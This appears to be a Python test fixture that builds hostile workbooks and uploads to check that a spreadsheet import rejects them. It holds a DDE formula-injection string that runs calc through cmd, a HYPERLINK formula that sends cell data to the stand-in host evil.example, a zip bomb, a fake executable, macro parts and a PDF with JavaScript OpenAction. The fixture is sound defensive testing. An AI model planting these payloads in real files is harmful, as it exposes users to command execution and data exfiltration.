# SPDX-License-Identifier: Apache-2.0
"""Workbooks nobody should bring: good in shape and wicked in content, or wicked in shape."""

import io
import re
import unicodedata
import zipfile

import openpyxl

from banha.kernel.imports.public import SheetSpec
from tests.hostile.values import TYPED
from tests.kernel.documents import files

#: Each fills one row, every cell of it.
ROWS = (
    "formula", "script", "markup", "nfd", "template", "controls_kept", "astral", "past",
    "far_date", "no_day", "beyond_norm", "big", "negative", "nan", "infinity", "full_width",
    "power_of_two", "unknown_choice", "dde", "link",
)  # fmt: skip
MORE = {
    "controls_kept": "a\u202e\u200bb",
    "dde": "@SUM(1+1)*cmd|' /C calc'!A0",
    "link": '=HYPERLINK("http://evil.example/?x="&A1,"xem")',
}
CLAIMED = 1_048_576


def cell(kind: str) -> str:
    value = MORE.get(kind) or TYPED[kind]
    assert isinstance(value, str)
    return value


def headings(spec: SheetSpec) -> list[str]:
    return [str(column.title) for column in spec.columns]


def rows_of(spec: SheetSpec) -> list[list[str]]:
    """A row for each kind of value, the last one twice: the same key again."""
    rows = [[cell(kind) for _column in spec.columns] for kind in ROWS]
    return [*rows, rows[-1]]


def as_xlsx(rows: list[list[str]]) -> bytes:
    book, out = openpyxl.Workbook(), io.BytesIO()
    assert book.active is not None
    for row in rows:
        book.active.append(row)
    book.save(out)
    return out.getvalue()


def as_csv(rows: list[list[str]], encoding: str = "utf-8") -> bytes:
    lines = [";".join('"' + one.replace('"', '""') + '"' for one in row) for row in rows]
    return "\n".join(lines).encode(encoding, "replace")


def claiming(book: bytes) -> bytes:
    """The same workbook, which says that it goes on to the last row and column there can be."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(book)) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            content = old.read(name)
            if name == "xl/worksheets/sheet1.xml":
                text = re.sub(r'<dimension ref="[^"]*"', f'<dimension ref="A1:XFD{CLAIMED}"',
                              content.decode())  # fmt: skip
                last = f'<row r="{CLAIMED}"><c r="XFD{CLAIMED}" s="0"/></row></sheetData>'
                content = text.replace("</sheetData>", last).encode()
            new.writestr(name, content)
    return out.getvalue()


#: Name and content of what is no workbook at all, whatever it is called.
NO_WORKBOOKS = {
    "executable": ("bang.xlsx", b"MZ\x90\0" + b"\0" * 100),
    "bomb": ("bang.xlsx", files.with_parts(files.an_xlsx(), {"xl/big.xml": b" " * 40_000_000})),
    "macros": ("bang.xlsx", files.with_parts(files.an_xlsx(), {"xl/vbaProject.bin": b"x"})),
    "letter": ("bang.xlsx", files.a_docx()),
    "scan": ("bang.csv", files.a_pdf()),
    "page": ("bang.csv", b"<!DOCTYPE html><script>alert('zq')</script>"),
    "cut": ("bang.xlsx", files.an_xlsx()[:900]),
    "nothing": ("bang.csv", b""),
    "nul": ("bang.csv", b"a;b\n\x00\x00;1\n"),
}
#: What no upload takes in, whatever it is called: executable, macros, bomb, acting, cut off.
NO_PAPERS = {
    "executable": ("don.pdf", b"MZ\x90\0" + b"\0" * 100),
    "macros": ("don.docx", files.a_docx(word__vbaProject_bin=b"x").replace(b"_bin", b".bin")),
    "bomb": ("don.docx", files.with_parts(files.a_docx(), {"word/big.xml": b" " * 40_000_000})),
    "acting": ("don.pdf", files.a_pdf(b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>")),
    "cut": ("don.docx", files.a_docx()[:2000]),
    "nothing": ("don.pdf", b""),
}


def in_old_letters(spec: SheetSpec) -> bytes:
    """A sheet saved in the letters of an old Vietnamese Windows."""
    text = [headings(spec), ["Viện Cơ khí ăn ở đâu" for _column in spec.columns]]
    apart = [[unicodedata.normalize("NFD", one) for one in row] for row in text]
    return as_csv(apart, "cp1258")
